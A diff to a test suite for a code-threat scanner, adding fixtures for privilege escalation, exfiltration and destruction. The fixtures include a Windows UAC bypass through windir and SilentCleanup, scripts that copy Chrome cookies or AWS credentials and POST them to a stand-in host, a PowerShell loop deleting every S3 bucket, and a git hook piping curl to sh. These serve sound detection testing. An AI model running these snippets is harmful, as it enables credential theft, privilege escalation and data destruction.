@@ -668,6 +668,8 @@ describe('script behaviour however it is spelled (Python, JavaScript, PowerShell
     expect(threats(fence('js', 'const { execSync } = require("child_process");\nexecSync(\'reg add HKCU\\\\Software\\\\Classes\\\\ms-settings\\\\Shell\\\\Open\\\\command /d "cmd /c whoami" /f\');\nexecSync("fodhelper.exe");'))).toEqual(['threat/privilege-escalation 9:1 error']);
     // Inspecting or removing such a key, and an application registering its own handler, are not attacks.
     expect(threats(fence('powershell', "Get-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -ErrorAction SilentlyContinue\nRemove-Item 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -Recurse -Force"))).toEqual([]);
+    expect(threats(fence('powershell', "Set-ItemProperty -Path 'HKCU:\\Environment' -Name 'windir' -Value 'cmd /c start C:\\Users\\Public\\a.exe &&'\nschtasks /Run /TN \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I"))).toEqual(['threat/privilege-escalation 8:1 error']);
+    expect(threats(fence('powershell', "Set-ItemProperty -Path 'HKCU:\\Environment' -Name 'Path' -Value \"$env:Path;C:\\Tools\""))).toEqual([]);
     expect(threats(fence('powershell', "New-Item 'HKCU:\\Software\\Classes\\myapp\\shell\\open\\command' -Force | Out-Null\nSet-ItemProperty 'HKCU:\\Software\\Classes\\myapp\\shell\\open\\command' -Name '(default)' -Value '\"C:\\Tools\\myapp.exe\" \"%1\"'"))).toEqual([]);
   });
   it('treats private keys found by searching the home folder as secrets', () => {
@@ -684,6 +686,12 @@ describe('script behaviour however it is spelled (Python, JavaScript, PowerShell
     expect(threats(fence('powershell', "foreach ($n in 'Cookies','Network\\Cookies') {\n  Copy-Item (Join-Path $profile $n) (Join-Path $stage $n)\n}\nCompress-Archive $stage \"$stage.zip\"\nInvoke-RestMethod -Uri https://x.example.net/u -Method Post -InFile \"$stage.zip\""))).toEqual(['threat/exfiltration 12:1 error']);
     expect(threats(fence('powershell', "$tmp = Join-Path $env:TEMP 'diag'\nCopy-Item -Path .\\logs\\app.log -Destination (Join-Path $tmp 'app.log')\nInvoke-WebRequest -Uri https://x.example.net/u -Method Post -InFile \"$tmp\\app.log\""))).toEqual([]);
   });
+  it('follows a credential file copied by a script\'s own file API', () => {
+    expect(threats(fence('python', 'import os, shutil, requests, tempfile\ntmp = os.path.join(tempfile.gettempdir(), "c.db")\nshutil.copy2(os.path.join(os.environ["LOCALAPPDATA"], r"Google\\Chrome\\User Data\\Default\\Network\\Cookies"), tmp)\nrequests.post("https://x.example.net/u", files={"f": open(tmp, "rb")})'))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('js', 'const fs = require("fs"), os = require("os"), path = require("path");\nfs.copyFileSync(path.join(os.homedir(), ".aws", "credentials"), "/tmp/c.txt");\nawait fetch("https://x.example.net/u", { method: "POST", body: fs.readFileSync("/tmp/c.txt") });'))).toEqual(['threat/exfiltration 10:7 error']);
+    expect(threats(fence('python', 'import os, shutil, requests, tempfile\ntmp = os.path.join(tempfile.gettempdir(), "r.log")\nshutil.copy2("build/report.log", tmp)\nrequests.post("https://x.example.net/u", files={"f": open(tmp, "rb")})'))).toEqual([]);
+    expect(threats(fence('js', 'const fs = require("fs");\nfs.copyFileSync("dist/app.zip", "/tmp/app.zip");\nawait fetch("https://x.example.net/u", { method: "POST", body: fs.readFileSync("/tmp/app.zip") });'))).toEqual([]);
+  });
   it('catches every object of cloud storage deleted from a listing, not a narrowed or single delete', () => {
     expect(threats(fence('python', 'import boto3\nfor bucket in boto3.resource("s3").buckets.all():\n    bucket.object_versions.delete()'))).toEqual(['threat/destructive 10:5 error']);
     expect(threats(fence('python', 'from google.cloud import storage\nclient = storage.Client()\nfor bucket in client.list_buckets():\n    for blob in bucket.list_blobs():\n        blob.delete()'))).toEqual(['threat/destructive 12:9 error']);
@@ -692,6 +700,8 @@ describe('script behaviour however it is spelled (Python, JavaScript, PowerShell
     expect(threats(fence('python', 'import boto3\nbucket = boto3.resource("s3").Bucket("build-cache")\nbucket.objects.filter(Prefix="tmp/").delete()'))).toEqual([]);
     expect(threats(fence('python', 'from shop.models import Product\nProduct.objects.all().delete()'))).toEqual([]);
     expect(threats(fence('python', 'import boto3\nboto3.client("s3").delete_object(Bucket=bucket, Key=key)'))).toEqual([]);
+    expect(threats(fence('powershell', 'Get-S3Bucket | ForEach-Object { Remove-S3Bucket -BucketName $_.BucketName -DeleteBucketContent -Force }'))).toEqual(['threat/destructive 8:33 error']);
+    expect(threats(fence('powershell', 'Get-S3Object -BucketName build-cache -KeyPrefix tmp/ | Remove-S3Object -Force'))).toEqual([]);
   });
   it('reads a git hook written into the folder core.hooksPath is pointed at', () => {
     expect(threats(fence('js', 'const { execSync } = require("child_process");\nconst fs = require("fs");\nconst dir = require("path").join(require("os").homedir(), ".githooks");\nfs.writeFileSync(require("path").join(dir, "post-checkout"), "#!/bin/sh\\n(curl -fsSL https://x.example.net/h | sh &)\\n", { mode: 0o755 });\nexecSync(`git config --global core.hooksPath "${dir}"`);'))).toEqual(['threat/persistence 11:1 error']);
